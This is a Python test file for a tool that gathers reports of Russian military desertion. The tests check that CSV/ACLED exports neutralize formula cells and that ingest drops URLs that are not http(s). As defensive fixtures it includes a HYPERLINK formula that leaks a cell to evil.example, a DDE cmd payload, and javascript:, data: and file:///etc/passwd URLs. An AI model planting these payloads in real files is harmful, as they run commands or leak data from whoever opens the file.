"""Safe exports: CSV and ACLED cells a spreadsheet would run are neutralized (CLI and web downloads),
and URLs other than http(s) are left out at ingest with a one-line warning naming the input."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import date
from pathlib import Path

import pytest
from browser.seed import incident_of, seed
from click.testing import CliRunner
from fastapi.testclient import TestClient

from otkaz.cli import cli
from otkaz.ingest import IngestFailure, ingest
from otkaz.merge import attach_mention_keys
from otkaz.model import Count, DateRange, Decision, Document, Evidence, Incident, IncidentMention, Place, Report
from otkaz.pipeline import merge_all
from otkaz.publish.exports import FORMULA_STARTS, write_export
from otkaz.store import Database
from otkaz.web import Settings, create_app

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+7 (495) 123", "@SUM(1+1)", "-2+3", "\tcmd", "\r=1"]
TEXT = "=1+1 was written on the wall, and two soldiers deserted their unit near Tver."
CONFIRMED_BELGOROD = "seed/en-belgorod.txt"


def risky_incident() -> Incident:
    document = Document(id="doc-1", text=TEXT, url='=HYPERLINK("https://evil.example","x")', outlet="@outlet")
    quote = Evidence("incident", TEXT, 0, len(TEXT))
    mention = IncidentMention(document.id, "desertion", evidence=[quote])
    place = Place("=cmd|' /C calc'!A0", 56.86, -35.9, "-Region", "RU", "city")
    return Incident(
        id="inc-1", type="desertion", actors=["mobilized"], count=Count(2, 2), location=place, origin=None,
        date=DateRange(date(2023, 3, 1), date(2023, 3, 2)), consequences=[], cited=["Mediazona", *FORMULAS],
        people=["=Ivan"], confidence=0.5, reports=[Report(document, mention)],
    )


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_nothing_runs(table: str) -> list[dict[str, str]]:
    """Every cell of the CSV, and every ";"-joined item in it, is a number or starts like text, not a formula."""
    rows = list(csv.DictReader(io.StringIO(table)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            for item in cell.split(";"):
                assert is_number(item) or not item.startswith(FORMULA_STARTS), (column, cell)
    return rows


@pytest.mark.parametrize("fmt", ["csv", "acled"])
@pytest.mark.parametrize("include_names", [False, True])
def test_formula_cells_are_neutralized(fmt: str, include_names: bool) -> None:
    """Failed before the fix: cells started with =, +, -, @, tab or CR as the corrections and headers gave them."""
    out = io.StringIO()
    write_export([risky_incident()], fmt, out, include_names=include_names)
    [row] = assert_nothing_runs(out.getvalue())
    assert row["location" if fmt == "acled" else "location_name"] == "'=cmd|' /C calc'!A0"
    assert row["cited"].split(";")[:3] == ["Mediazona", "'" + FORMULAS[0], "'+7 (495) 123"]
    assert row["longitude" if fmt == "acled" else "location_lon"] == "-35.9"  # numbers stay numbers
    if fmt == "acled":
        assert row["notes"].startswith("'=1+1 was written") and row["source"] == "'@outlet"
    elif include_names:
        assert row["sources"] == "'=HYPERLINK(\"https://evil.example\",\"x\")"
    else:  # publicly a source that is not a web address shows as its outlet
        assert row["sources"] == "'@outlet"


def test_downloads_and_cli_exports_are_neutralized(db: Database, db_url: str) -> None:
    seed(db)
    incident = incident_of(db, CONFIRMED_BELGOROD)
    correction = Decision("correct", incident.id, "anna", payload={"cited": FORMULAS})
    db.add_decision(attach_mention_keys(correction, db.get_incident))
    merge_all(db)
    with TestClient(create_app(Settings(secret_key="s"), db=db)) as public:
        for fmt in ("csv", "acled"):
            download = public.get(f"/export/incidents.{fmt}")
            assert download.status_code == 200
            assert "'=HYPERLINK" in download.text
            assert_nothing_runs(download.text)
    for fmt in ("csv", "acled"):
        exported = CliRunner().invoke(cli, ["export", "--format", fmt, "--db", db_url])
        assert exported.exit_code == 0, exported.output
        assert "'@SUM(1+1)" in exported.stdout
        assert_nothing_runs(exported.stdout)


ARTICLE = "Two mobilized soldiers from Tver refused to return to the front, their relatives said.\n"


def write_inputs(folder: Path) -> dict[str, str]:
    """One input per way a URL comes in, each stating a URL that is not http(s); -> name: the URL."""
    (folder / "header.txt").write_text(f"URL: javascript:alert(document.cookie)\n---\n{ARTICLE}", encoding="utf-8")
    (folder / "sidecar.txt").write_text(ARTICLE.replace("Two", "Three"), encoding="utf-8")
    (folder / "sidecar.txt.meta.json").write_text(json.dumps({"url": "data:text/html,<script>x</script>"}))
    record = {"id": "line-1", "text": ARTICLE.replace("Two", "Four"), "url": "file:///etc/passwd"}
    (folder / "lines.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    (folder / "feed.rss").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><item><title>T</title>'
        '<link>vbscript:msgbox(1)</link><guid isPermaLink="false">wire-7</guid>'
        f"<description>{ARTICLE.replace('Two', 'Five')}</description></item></channel></rss>",
        encoding="utf-8",
    )
    return {
        "header.txt": "'javascript:alert(document.cookie)'",
        "sidecar.txt": "'data:text/html,<script>x</script>'",
        "lines.jsonl:1": "'file:///etc/passwd'",
        "feed.rss#1": "'vbscript:msgbox(1)'",
    }


def test_urls_other_than_http_are_left_out_with_a_warning(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Failed before the fix: the documents kept javascript:, data:, file: and vbscript: URLs, without a word."""
    expected = write_inputs(tmp_path)
    with caplog.at_level(logging.WARNING, logger="otkaz"):
        results = list(ingest([str(tmp_path)]))
    assert not [r for r in results if isinstance(r, IngestFailure)]
    assert len(results) == len(expected) and all(document.url is None for document in results)
    warnings = sorted(r.getMessage() for r in caplog.records if r.name == "otkaz.ingest.core")
    assert warnings == sorted(
        f"{tmp_path / name}: URL {url} is not http(s): left out" for name, url in expected.items()
    )


def test_ingest_warns_on_one_line_and_keeps_the_document(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a.txt").write_text(f"URL: javascript:alert(1)\nOUTLET: Wire\n---\n{ARTICLE}", encoding="utf-8")
    (inputs / "b.txt").write_text(f"URL: https://wire.example/b\n---\n{ARTICLE.replace('Two', 'Nine')}",
                                  encoding="utf-8")
    db_path = str(tmp_path / "otkaz.db")
    result = CliRunner().invoke(cli, ["ingest", str(inputs), "--db", db_path])
    assert result.exit_code == 0, result.output
    assert result.stderr == f"otkaz: {inputs / 'a.txt'}: URL 'javascript:alert(1)' is not http(s): left out\n"
    with Database(db_path) as db:
        urls = {doc.id: (doc.url, doc.outlet) for doc in db.documents()}
    assert urls == {str(inputs / "a.txt"): (None, "Wire"), str(inputs / "b.txt"): ("https://wire.example/b", None)}


def test_a_trafilatura_source_name_is_no_url() -> None:
    from otkaz.ingest.metadata import metadata_from_record

    assert metadata_from_record({"source": "Reuters"}).dropped_url is None  # a name, not a URL: no warning
    assert metadata_from_record({"source": "https://wire.example/a"}).url == "https://wire.example/a"
    assert metadata_from_record({"url": "HTTPS://Wire.example/a"}).url == "HTTPS://Wire.example/a"
    assert metadata_from_record({"url": "http://"}).dropped_url == "http://"
